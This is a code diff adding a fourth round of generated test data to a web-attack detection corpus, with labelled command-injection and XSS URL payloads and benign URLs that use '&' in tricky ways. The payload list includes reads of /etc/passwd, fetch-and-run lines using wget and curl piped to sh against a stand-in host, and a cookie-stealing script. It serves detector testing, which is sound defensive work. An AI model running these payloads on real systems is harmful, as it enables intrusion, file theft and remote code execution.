@@ -946,6 +946,66 @@ def round3():
     return sqli, cmdi
 
 
+# ---- fourth round (issue 21, h21c): what the fast path and the query's
+# split hid. Gap 1: a payload whose '&' or "&&" was sent unencoded, so
+# the query splits inside it ("?ip=127.0.0.1&&cat /etc/passwd"). The
+# separators are commix's (";", "&", "|", "&&", "||", newline: its
+# settings.py SEPARATORS_LVL1, which recent versions write raw and encode
+# last), the shapes those of its classic and time-based techniques
+# (echo TAG$((a+b))$(echo TAG)TAG, sleep N), of DVWA's command injection
+# exercise and PortSwigger's probes ("& whoami &", "||ping -c 10 ...||");
+# "&& sysinfo" and "| dir c:/" are the issue's. The benign twins follow
+# the form encoding's grammar (the WHATWG URL Standard's
+# application/x-www-form-urlencoded parser: '&' splits, an empty
+# sequence is skipped, a sequence without '=' is a name with an empty
+# value) and RFC 3986, where '&' is only a sub-delimiter: doubled and
+# trailing '&', flags without a value, an unencoded '&' inside a value.
+rnd4 = random.Random(2026120701)
+
+CMDI_R4_AMP = [
+    "127.0.0.1&&cat /etc/passwd", "127.0.0.1&&id", "127.0.0.1&whoami", "127.0.0.1 && sysinfo",
+    "127.0.0.1&& dir c:/", "127.0.0.1 & ipconfig /all", "127.0.0.1&net user", "localhost&&uname -a",
+    "8.8.8.8&&ls -la /var/www", "1&&sleep 5", "1&sleep 5&", "x&&echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
+    "& whoami &", "&&pwd", "test&&ps aux", "127.0.0.1&&wget http://203.0.113.9/x.sh -O /tmp/x",
+    "127.0.0.1 & ping -n 3 127.0.0.1 &", "example.com&&nslookup x.oast.example", "1&id&",
+    "127.0.0.1&&curl http://203.0.113.9/a|sh", "a&&tasklist", "127.0.0.1&&type c:/windows/win.ini",
+]
+
+XSS_R4_AMP = [  # HTML entities with their '&' unencoded: each '&' splits the query
+    # (a tag with an attribute, "&lt;img src=x ...", splits into a segment
+    # with '=', a parameter of its own to the form grammar: not joined)
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
+    "&quot;&gt;&lt;script&gt;prompt(1)&lt;/script&gt;",
+]
+
+BENIGN_R4_AMP = [
+    "/search?q=shoes&&page=2", "/search?q=shoes&", "/list?print&page=2", "/list?page=2&print",
+    "/search?q=Tom&Jerry", "/search?q=AT&T+phones", "/search?q=salt&pepper&sort=price",
+    "/item?id=42&preview", "/cart?add&sku=123", "/feed?rss&lang=en", "/wiki/Main?action=edit&minor",
+    "/search?q=rock&roll", "/x?a=1&b&c=2", "/docs?toc&section=3", "/search?q=black&decker",
+    "/search?q=dogs&cats+toys", "/x?&a=1", "/service.asmx?wsdl", "/search?q=Johnson&Johnson+shampoo",
+    "/search?q=M&S+food&&sort=new", "/img/a.png?v=3&&", "/s?q=bed&breakfast+kyoto",
+    "/s?q=Barnes&Noble", "/s?q=P&O+ferries", "/news?id=7&amp;page=2", "/s?q=R&D+jobs&page=3",
+    "/s?q=Q&A", "/s?q=H&M&color=red", "/s?q=fish&chips&near=me", "/s?q=Ben&Jerry%27s",
+    "/api/items?limit=20&&offset=40", "/s?q=drag&drop+upload", "/watch?v=abc123&feature=share&",
+]
+
+
+def round4():
+    cmdi = []
+    for p in CMDI_R4_AMP:
+        for sp in rnd4.sample(["+", "%20"], 2):
+            cmdi.append("%s?%s=%s%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["ip", "host", "addr", "target"]),
+                                        p.replace(" ", sp).replace("|", "%7C"),
+                                        rnd4.choice(["", "&submit=Submit", "&page=2"])))
+    cmdi.append("/\tREF:http://router.example/ping.cgi?ip=127.0.0.1&&id")
+    xss = []
+    for p in XSS_R4_AMP:
+        xss.append("%s?%s=%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["q", "name", "comment"]),
+                                 p.replace(" ", "+")))
+    return cmdi, xss
+
+
 def benign_lines():
     out = list(TRICKY)
     for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
@@ -1018,6 +1078,11 @@ def main():
           "server-side code injection: PHP, templates, expression languages, deserialisation, XXE")
     write("benign.txt", benign + BENIGN_R2, "benign traffic, much of it built to fool a keyword grep")
     append("benign.txt", BENIGN_R3, "third round (issue 21: lists of names, arithmetic with '+')")
+    cmdi4, xss4 = round4()
+    append("attacks/cmdi.txt", cmdi4, "fourth round (issue 21: a payload's '&' or '&&' unencoded)")
+    append("attacks/xss.txt", xss4, "fourth round (issue 21: entities with their '&' unencoded)")
+    append("benign.txt", BENIGN_R4_AMP, "fourth round (issue 21: doubled, trailing and bare '&', "
+           "an '&' inside a value)")
 
 
 if __name__ == "__main__":
